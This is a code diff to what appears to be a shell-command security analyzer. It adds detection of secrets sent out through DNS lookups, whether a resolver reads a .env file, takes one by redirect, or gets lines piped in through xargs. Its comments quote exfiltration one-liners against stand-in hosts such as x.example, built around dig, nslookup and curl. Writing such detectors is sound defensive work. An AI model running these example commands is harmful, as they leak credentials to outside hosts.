@@ -7,6 +7,9 @@ import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
 import { finding } from '../common/finding';
 import { secretRefs, SEND_ALT } from './common';
 import { substitutedSecret } from './substitutions';
+import { credentialIn, inputRedirects } from '../common/credentials';
+import { optionValues } from '../../command/args';
+import { credentialProducer } from './network';
 
 /** Programs that resolve the names they are given. */
 export const RESOLVERS = new Set([
@@ -27,7 +30,9 @@ export const RESOLVERS = new Set([
 export function dnsSecretFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
   // The source, not argv: a variable the request's environment sets is already expanded there.
   const refs = secretRefs(cmd.source);
-  const what = refs.length ? '$' + refs[0] : cmd.dynamic.some(Boolean) ? substitutedSecret(cmd, ctx) : undefined;
+  const what =
+    (refs.length ? '$' + refs[0] : cmd.dynamic.some(Boolean) ? substitutedSecret(cmd, ctx) : undefined) ??
+    batchFileSecret(name, cmd, ctx);
   if (!what) return undefined;
   return finding(
     'secrets.send-to-network',
@@ -36,6 +41,18 @@ export function dnsSecretFinding(name: string, cmd: SimpleCommand, ctx: Analysis
     what,
     SEND_ALT,
   );
+}
+
+/**
+ * `dig @ns.x.example -f .env`, `nslookup < .env`: a resolver reading the names
+ * it looks up from a file sends every line of it, one query each.
+ */
+function batchFileSecret(name: string, cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
+  const files = name === 'dig' || name === 'kdig' ? optionValues(cmd.argv, ['-f']) : [];
+  const hit = credentialIn([...files, ...inputRedirects(cmd)], cmd, ctx)?.shown;
+  // `cat .env | xargs -I{} nslookup {}.x.example`: one lookup per line of what is piped in.
+  const from = cmd.stdinOrigin ?? cmd.stdinFrom;
+  return hit ?? (cmd.repeated && from && cmd.dynamic.some(Boolean) ? credentialProducer(from, cmd, ctx) : undefined);
 }
 
 /** `curl https://$AWS_SECRET_ACCESS_KEY.x.example`: the host name is resolved before anything is sent. */
